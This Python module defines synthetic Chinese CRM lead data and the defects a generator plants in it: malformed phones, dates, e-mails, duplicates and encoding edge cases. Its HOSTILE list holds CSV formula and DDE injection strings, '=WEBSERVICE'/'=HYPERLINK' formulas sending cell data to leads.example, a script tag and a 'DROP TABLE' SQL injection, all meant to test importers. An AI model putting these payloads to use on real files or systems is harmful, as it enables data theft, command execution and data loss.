"""What the rows are made of, and which defects are planted how often."""

from __future__ import annotations

HEADER = ["公司名称", "联系人", "手机号", "座机", "邮箱", "来源渠道", "所属行业", "客户级别",
          "省份", "城市", "详细地址", "下次联系日期", "负责人", "备注", "录入日期"]
(COMPANY, CONTACT, MOBILE, PHONE, EMAIL, SOURCE, INDUSTRY, LEVEL,
 PROVINCE, CITY, ADDRESS, NEXT, OWNER, REMARK, ENTERED) = HEADER

SOURCES = ["促销", "搜索引擎", "广告", "转介绍", "线上注册", "线上询价", "预约上门", "陌拜",
           "电话咨询", "邮件咨询"]
INDUSTRIES = ["IT", "金融业", "房地产", "商业服务", "运输/物流", "生产", "政府", "文化传媒"]
LEVELS = ["A（重点客户）", "B（普通客户）", "C（非优先客户）"]
EMPLOYEES = {"13800000001": "陈晓明", "13800000002": "王芳", "13800000003": "李强",
             "13800000004": "赵敏", "13800000005": "周杰", "13800000006": "刘洋"}
# leadforge has ten reps; the director carries few leads himself.
REPS = {1: "13800000001", 2: "13800000002", 3: "13800000002", 4: "13800000003",
        5: "13800000003", 6: "13800000004", 7: "13800000004", 8: "13800000005",
        9: "13800000005", 10: "13800000006"}

# Faker's zh_CN provinces, cities and districts are drawn independently of each
# other (湖北省石家庄县…), so places are written down here: they must fit the area code.
# city: (province, area code, digits of a landline, districts, share)
PLACES = {
    "北京市": ("北京市", "010", 8, "朝阳区 海淀区 丰台区 通州区 大兴区", 5),
    "上海市": ("上海市", "021", 8, "浦东新区 徐汇区 闵行区 静安区 嘉定区", 5),
    "天津市": ("天津市", "022", 8, "和平区 南开区 滨海新区", 2),
    "重庆市": ("重庆市", "023", 8, "渝中区 江北区 南岸区 长寿区", 4),
    "广州市": ("广东省", "020", 8, "天河区 番禺区 白云区 黄埔区", 4),
    "深圳市": ("广东省", "0755", 8, "南山区 福田区 宝安区 龙岗区", 5),
    "东莞市": ("广东省", "0769", 8, "南城街道 长安镇 虎门镇", 3),
    "佛山市": ("广东省", "0757", 8, "禅城区 顺德区 南海区", 2),
    "杭州市": ("浙江省", "0571", 8, "西湖区 余杭区 滨江区 萧山区", 4),
    "宁波市": ("浙江省", "0574", 8, "鄞州区 海曙区 北仑区", 2),
    "台州市": ("浙江省", "0576", 8, "椒江区 黄岩区 路桥区", 2),
    "温州市": ("浙江省", "0577", 8, "鹿城区 乐清市 瓯海区", 2),
    "南京市": ("江苏省", "025", 8, "玄武区 江宁区 栖霞区", 3),
    "苏州市": ("江苏省", "0512", 8, "姑苏区 吴中区 昆山市 太仓市", 3),
    "合肥市": ("安徽省", "0551", 8, "蜀山区 包河区 庐阳区", 2),
    "六安市": ("安徽省", "0564", 7, "金安区 裕安区", 1),
    "蚌埠市": ("安徽省", "0552", 7, "龙子湖区 蚌山区", 1),
    "福州市": ("福建省", "0591", 8, "鼓楼区 仓山区 长乐区", 2),
    "厦门市": ("福建省", "0592", 7, "思明区 湖里区 集美区", 3),
    "南昌市": ("江西省", "0791", 8, "东湖区 红谷滩区", 1),
    "济南市": ("山东省", "0531", 8, "历下区 历城区 章丘区", 2),
    "青岛市": ("山东省", "0532", 8, "市南区 崂山区 即墨区", 2),
    "郑州市": ("河南省", "0371", 8, "金水区 中原区 郑东新区", 2),
    "武汉市": ("湖北省", "027", 8, "武昌区 江汉区 洪山区 硚口区", 3),
    "长沙市": ("湖南省", "0731", 8, "岳麓区 雨花区 长沙县", 3),
    "成都市": ("四川省", "028", 8, "武侯区 锦江区 高新区 都江堰市", 4),
    "乐山市": ("四川省", "0833", 7, "市中区 沙湾区", 1),
    "贵阳市": ("贵州省", "0851", 8, "南明区 观山湖区", 1),
    "昆明市": ("云南省", "0871", 8, "五华区 官渡区", 1),
    "西安市": ("陕西省", "029", 8, "雁塔区 未央区 长安区", 2),
    "太原市": ("山西省", "0351", 7, "小店区 迎泽区", 1),
    "长治市": ("山西省", "0355", 7, "潞州区 上党区", 1),
    "石家庄市": ("河北省", "0311", 8, "长安区 裕华区 藁城区", 1),
    "沈阳市": ("辽宁省", "024", 8, "沈河区 和平区 铁西区", 2),
    "朝阳市": ("辽宁省", "0421", 7, "双塔区 龙城区", 1),
    "大连市": ("辽宁省", "0411", 8, "中山区 甘井子区", 2),
    "长春市": ("吉林省", "0431", 8, "朝阳区 南关区", 1),
    "哈尔滨市": ("黑龙江省", "0451", 8, "道里区 南岗区", 1),
    "南宁市": ("广西壮族自治区", "0771", 7, "青秀区 邕宁区", 1),
    "海口市": ("海南省", "0898", 8, "龙华区 美兰区", 1),
    "兰州市": ("甘肃省", "0931", 7, "城关区 七里河区", 1),
    "乌鲁木齐市": ("新疆维吾尔自治区", "0991", 7, "天山区 沙依巴克区", 1),
}
# Faker's zh_CN company() has only 320 results, so its prefixes are one of two
# stocks of brand words and the rest of the name comes from here.
BRANDS = ("鼎盛 宏图 博远 汇通 金诚 恒信 瑞丰 天润 安泰 嘉禾 卓越 万兴 正大 新华锐 同创 启明 远航 "
          "盛世 中恒 德润 众合 百川 立邦德 国泰安 顺达 长兴 长青 乐享 朝晖 和田 重远 大有 曾记 "
          "华藏 济川 骁腾 晟睿 翊辰 泓毅 沐晴").split()
TRADES = {
    "IT": "科技 软件 信息技术 网络科技 数据服务 智能科技",
    "金融业": "投资管理 融资租赁 商业保理 小额贷款 资产管理 保险代理",
    "房地产": "房地产开发 置业 物业管理 建设工程 装饰工程",
    "商业服务": "企业管理咨询 人力资源 商贸 供应链管理 会展服务 财务顾问",
    "运输/物流": "物流 货运代理 供应链 冷链物流 国际货运 运输",
    "生产": "机械制造 电子 精密模具 食品 医疗器械 新材料 纺织 汽车零部件",
    "政府": "城市建设投资 公共交通 水务 国有资产经营 产业园区运营",
    "文化传媒": "文化传媒 广告 影视制作 文化创意 出版发行 教育科技",
}
TAILS = [("有限公司", 70), ("有限责任公司", 9), ("股份有限公司", 8), ("（集团）有限公司", 5), ("", 3),
         ("有限公司分公司", 3)]
MORE_TAILS = {"生产": [("厂", 4)], "金融业": [("合伙企业（有限合伙）", 10)], "商业服务": [("事务所", 4)]}

POLYPHONIC = [  # the city and brand read differently from their characters' commonest sound
    ("重庆市", "生产", "重庆长安汇通汽车零部件有限公司"),
    ("重庆市", "生产", "重庆重载机械制造有限公司"),
    ("重庆市", "金融业", "重庆朝天门会计师事务所"),
    ("长沙市", "商业服务", "长沙长乐行商贸有限公司"),
    ("长沙市", "商业服务", "长沙银行街财务顾问有限公司"),
    ("厦门市", "房地产", "厦门大厦物业管理有限公司"),
    ("厦门市", "生产", "厦门夏商重工有限公司"),
    ("六安市", "生产", "六安六味茶业有限公司"),
    ("蚌埠市", "生产", "蚌埠调味食品有限公司"),
    ("台州市", "生产", "台州单氏精密模具厂"),
    ("乐山市", "文化传媒", "乐山音乐文化传媒有限公司"),
    ("温州市", "生产", "乐清乐行电子有限公司"),
    ("东莞市", "生产", "东莞长安镇长青五金厂"),
    ("广州市", "商业服务", "广州番禺区得月楼餐饮有限公司"),
    ("长治市", "文化传媒", "长治长城会计培训学校"),
    ("朝阳市", "生产", "朝阳朝晖新材料有限公司"),
    ("成都市", "房地产", "都江堰大都会建设工程有限公司"),
    ("西安市", "文化传媒", "西安藏石阁文化创意有限公司"),
    ("天津市", "运输/物流", "天津行行行物流有限公司"),
    ("沈阳市", "生产", "沈阳曾都重型机器有限公司"),
    ("上海市", "金融业", "上海华银银行设备有限公司"),
    ("武汉市", "商业服务", "武汉三参健康管理有限公司"),
    ("南京市", "生产", "南京石头城血站设备有限公司"),
    ("北京市", "商业服务", "北京什刹海血液检测技术有限公司"),
]
LATIN = [
    ("上海市", "IT", "上海ABC科技有限公司"),
    ("上海市", "生产", "3M中国"),
    ("深圳市", "IT", "深圳e路通网络科技有限公司"),
    ("北京市", "文化传媒", "北京K12教育科技有限公司"),
    ("苏州市", "生产", "Nordwind Präzision (Suzhou) Co., Ltd."),
    ("广州市", "运输/物流", "广州T&G国际货运有限公司"),
    ("杭州市", "IT", "杭州51Cloud信息技术有限公司"),
    ("上海市", "商业服务", "Blue Lotus Trading (Shanghai) Co., Ltd."),
    ("青岛市", "商业服务", "青岛O'Neil啤酒餐饮管理有限公司"),
    ("大连市", "生产", "大连NTK電子株式会社"),
    ("成都市", "文化传媒", "成都iPanda文化创意有限公司"),
    ("深圳市", "生产", "ＸＹＺ半导体（深圳）有限公司"),
    ("厦门市", "文化传媒", "厦门2000年代文化传媒有限公司"),
    ("北京市", "运输/物流", "SINO-Trans Cold Chain"),
]
POLY_NAMES = ["单雪梅", "解晓东", "仇红梅", "查文斌", "朴正浩", "区志强", "乐嘉怡", "尉迟恭明",
              "万俟雅", "盖建国", "任重远", "曾国强", "华长青", "翟乐乐", "缪长江", "折可风"]

ROLES = {"vp_finance": ["财务总监", "CFO", "财务负责人"], "ap_manager": ["财务经理", "应付主管"],
         "it_director": ["信息部经理", "IT总监", "技术总监"], "procurement_manager": ["采购经理", "采购总监"]}
DECIDER = {
    "economic_buyer": ["他自己就能拍板", "预算归他批，可以直接谈价格", "本人有签字权"],
    "champion": ["本人很支持，但要老板点头", "他负责写立项报告，最后由总经理定", "内部推动人，签字的是财务总监"],
    "technical_evaluator": ["只负责技术评估，采购部定价格", "先过他的技术关，再上采购会", "技术选型由他定，商务另找王总"],
    "end_user": ["使用部门，没有决定权", "只收集资料，拍板的是分管副总", "要走招标，他只管比价"],
}
WANTS = {
    "IT": ["想换掉现有的CRM，主要看二次开发接口", "要买30个账号的项目管理软件", "问私有化部署怎么收费"],
    "金融业": ["想上一套客户回访和录音系统", "要求数据放在本地机房", "需要电子合同加实名认证"],
    "房地产": ["案场要做来访登记和渠道判客", "想买物业收费系统", "要一套招商租赁台账"],
    "商业服务": ["想把客户资料从Excel搬到系统里", "需要合同和回款提醒", "销售20多人，要管外勤签到"],
    "运输/物流": ["要对接TMS，按票结算", "想看运费对账功能", "车队120台车，要维保提醒"],
    "生产": ["想上进销存，和金蝶对接", "要管经销商报价和打样", "售后派工现在全靠微信群"],
    "政府": ["需要走政府采购目录", "要求国产数据库和信创适配", "问能不能先做一个试点区"],
    "文化传媒": ["要管媒体资源和排期", "想把商单和回款放在一起看", "活动多，要报名签到小程序"],
}
PROGRESS = {
    "no_answer": ["打了{n}次没人接，下周换时间再打", "电话无人接听，已加微信未通过"],
    "left_voicemail": ["前台说在开会，已留言", "留了言，等回电"],
    "connected": ["已通电话，答应发一份方案", "聊了{n}次，还在和另外两家比较", "通过电话，对价格比较敏感"],
    "meeting_set": ["已约上门演示", "约好带技术一起过去谈"],
    "demo_completed": ["演示已做，反馈不错，等报价", "看过演示，问能不能送实施"],
    None: ["新线索，还没联系", "市场部转来，未跟进"],
}
LINE_BREAKS = ["要求：{a}；\n联系时间：工作日下午；\n备注：{b}", "一、{a}\n二、{b}\n三、发票要专票", "{a}\r\n{b}\r\n——市场部转"]
QUOTES = ['客户原话:"{a}",{b}', '对方说 "价格再低10%,马上签" ;{a}', '{a},{b},竞品是"纷享"和"销售易",要对比表']
EMOJI = ["👍", "🔥", "😅", "⭐", "🎉"]
RARE_NAMES = ["王㛃", "李𬭎", "刘𫖯", "陈𬀩"]        # real given-name characters that GBK cannot carry
NOT_EMAILS = ["{u}.example.com", "{u}@@example.com", "{u}@", "@example.com", "{u} at example.com",
              "{u}@example", "微信同号", "张经理@公司", "{u}@exam ple.com", "{u}，example.com"]
NO_EMAIL = ["无", "-", "暂无"]
BAD_DATES = ["2024-02-30", "2023/13/1", "下周", "待定", "2025年2月29日", "2025-00-10", "月底前", "2025/4/31"]
BAD_SOURCES = ["抖音", "小红书", "展会", "老板朋友", "2025春季糖酒会", "其他"]
BAD_INDUSTRIES = ["教育", "医疗", "农业", "餐饮", "互联网+", "未知"]
BAD_LEVELS = ["D", "VIP", "重要", "A+"]
GHOST_MOBILES = ["13800000099", "13900001234", "13800000010"]
GHOST_NAMES = ["张三丰", "离职-王磊", "市场部", "陈小明"]      # 陈小明 is one character off 陈晓明
BAD_MOBILES = ["1.38123E+10", "1381234567", "138123456789", "13X12345678"]
HOSTILE = [
    (COMPANY, '=HYPERLINK("http://leads.example/?c="&B2,"点击查看")'), (REMARK, "+cmd|' /C calc'!A0"),
    (REMARK, "@SUM(1+1)*cmd|' /C calc'!A0"), (CONTACT, "=1+1"), (REMARK, "-2+3+cmd|' /C calc'!A0"),
    (ADDRESS, '=WEBSERVICE("http://leads.example/"&C2)'), (COMPANY, "+8613800138000"),
    (REMARK, "<script>alert('crm')</script>要报价"), (CONTACT, "Robert'); DROP TABLE leads;--"),
]

# kind -> (rows in leads.csv, rows in leads_gbk.csv, effect, what it is)
# effect: "reject" a strict import refuses the row, "dup" it depends on the duplicate
# rule, "clean" importable once normalised, "keep" importable as it stands.
KINDS = {
    "company_missing": (16, 3, "reject", "公司名称 empty"),
    "company_too_long": (3, 1, "reject", "公司名称 of 256, 300 and 412 characters (256 in the GBK batch)"),
    "next_date_wrong": (30, 5, "reject", "下次联系日期 no date: 2024-02-30, 2023/13/1, 下周, 待定, 2025年2月29日 …"),
    "entered_date_wrong": (6, 1, "reject", "录入日期 no date, as above"),
    "owner_unknown_mobile": (12, 2, "reject", "负责人 is a mobile no employee has"),
    "owner_unknown_name": (10, 2, "reject", "负责人 is a name no employee has (离职-王磊, 市场部, 陈小明 …)"),
    "email_not_email": (30, 4, "reject", "邮箱 is no e-mail (two @, no domain, 微信同号 …)"),
    "email_placeholder": (10, 1, "reject", "邮箱 is a word for “none” (无, -, 暂无)"),
    "source_unknown": (20, 3, "reject", "来源渠道 outside the option list"),
    "industry_unknown": (16, 2, "reject", "所属行业 outside the option list"),
    "level_unknown": (6, 1, "reject", "客户级别 outside the option list (D, VIP, 重要, A+)"),
    "mobile_wrong": (8, 1, "reject", "手机号 no mobile (1.38123E+10, 10 digits, 12 digits, a letter)"),
    "columns_too_few": (1, 1, "reject", "record with 9 cells"),
    "columns_too_many": (1, 1, "reject", "record with 17 cells (unquoted commas in 备注)"),
    "two_errors": (6, 1, "reject", "record with two of the errors above; it is counted under each of them too"),
    "dup_whole_row": (16, 3, "dup", "an earlier record once more, every cell the same"),
    "dup_company_and_mobile": (24, 4, "dup", "same company and mobile as an earlier record, later date, other source and remark"),
    "dup_near": (24, 3, "dup", "company almost the same (有限责任公司, brackets, space), same number, three in four in another notation"),
    "dup_company_other_contact": (20, 3, "dup", "same company, another person and mobile"),
    "dup_mobile_other_company": (10, 2, "dup", "same mobile, another company"),
    "dup_of_leads_csv": (0, 10, "dup", "company and mobile are already in leads.csv"),
    "mobile_full_width": (40, 6, "clean", "手机号 in full-width digits (１３８…)"),
    "mobile_plus86": (60, 8, "clean", "手机号 with +86 (+86138…, +86 138…, +86-138-…)"),
    "mobile_0086": (30, 4, "clean", "手机号 with 0086"),
    "mobile_spaced": (50, 6, "clean", "手机号 in groups (138-1234-5678, 138 1234 5678)"),
    "mobile_tab": (12, 2, "clean", "手机号 followed by a tab (how tools keep Excel from eating digits)"),
    "phone_extension": (60, 9, "clean", "座机 with extension (010-8888 6666转803, -803, ext.803)"),
    "phone_full_width": (12, 2, "clean", "座机 in full-width digits"),
    "company_spaces": (30, 4, "clean", "公司名称 with leading or trailing blanks"),
    "contact_spaces": (20, 3, "clean", "联系人 with trailing blanks"),
    "option_spaces": (24, 3, "clean", "来源渠道 with a trailing blank (“广告 ”)"),
    "company_full_width_space": (20, 3, "clean", "公司名称 with a full-width space (U+3000) before, after or inside"),
    "contact_full_width_space": (16, 3, "clean", "two-character 联系人 stretched with U+3000 (王　芳)"),
    "level_letter": (160, 20, "clean", "客户级别 just A, B or C"),
    "level_half_width": (12, 2, "clean", "客户级别 with half-width brackets: A(重点客户)"),
    "owner_name": (180, 25, "clean", "负责人 is an employee's display name, not his mobile"),
    "owner_empty": (120, 18, "keep", "负责人 empty"),
    "contact_missing": (40, 6, "keep", "联系人 empty"),
    "remark_line_break": (60, 9, "keep", "备注 with quoted line breaks (LF; a third of them CRLF)"),
    "remark_quotes_commas": (50, 8, "keep", "备注 with embedded quotes and half-width commas"),
    "emoji": (8, 0, "keep", "an emoji in 备注 or 公司名称"),
    "rare_hanzi": (4, 0, "keep", "联系人 with a character GBK lacks (㛃 𬭎 𫖯 𬀩)"),
    "hostile_value": (9, 3, "keep", "=HYPERLINK…, +cmd|…, @SUM…, <script>, '); DROP TABLE: must stay plain text"),
    "company_255": (1, 0, "keep", "公司名称 of exactly 255 characters"),
    "company_polyphonic": (24, 0, "keep", "hand-made name with polyphonic characters (重庆长安…, 厦门大厦…, 六安六味…)"),
    "contact_polyphonic": (16, 0, "keep", "联系人 with a polyphonic surname or name (单, 解, 仇, 查, 尉迟, 万俟 …)"),
    "company_latin": (14, 0, "keep", "Latin or mixed 公司名称 (上海ABC…, 3M中国, … Co., Ltd.)"),
    "person_as_company": (90, 12, "keep", "a person, not a company: 公司名称 is his name, sometimes + （个人）"),
}
TWO_ERRORS = [("next_date_wrong", "owner_unknown_mobile"), ("email_not_email", "source_unknown"),
              ("mobile_wrong", "industry_unknown"), ("next_date_wrong", "email_not_email"),
              ("owner_unknown_name", "level_unknown"), ("source_unknown", "industry_unknown")]


REJECT = {k for k, v in KINDS.items() if v[2] == "reject"}
PLAN_ONLY = {"company_polyphonic", "contact_polyphonic", "company_latin", "person_as_company"}
